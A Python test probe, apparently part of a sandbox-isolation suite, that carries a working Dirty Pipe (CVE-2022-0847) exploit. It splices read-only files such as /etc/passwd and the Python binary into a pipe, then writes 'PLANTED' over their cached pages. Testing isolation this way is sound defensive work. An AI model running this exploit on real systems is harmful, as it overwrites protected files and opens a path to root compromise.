"""CVE-2022-0847: a page of a read-only file, spliced into a pipe whose pages may be merged, and then written to."""

import os

from attempt import attempt

for path in ("/repo/main.py", "/data/sales/data.csv", "/etc/passwd", "/usr/bin/python3.13"):

    def overwrite():
        reading, writing = os.pipe()
        for end, action in ((writing, lambda: os.write(writing, b"x" * 4096)), (reading, lambda: os.read(reading, 4096))):
            for _ in range(16):
                action()
        before = open(path, "rb").read(4096)
        file = os.open(path, os.O_RDONLY)
        os.splice(file, writing, 1, offset_src=0)
        os.write(writing, b"PLANTED")
        if open(path, "rb").read(4096) == before:
            raise OSError("the file is as it was")

    attempt(path, overwrite)
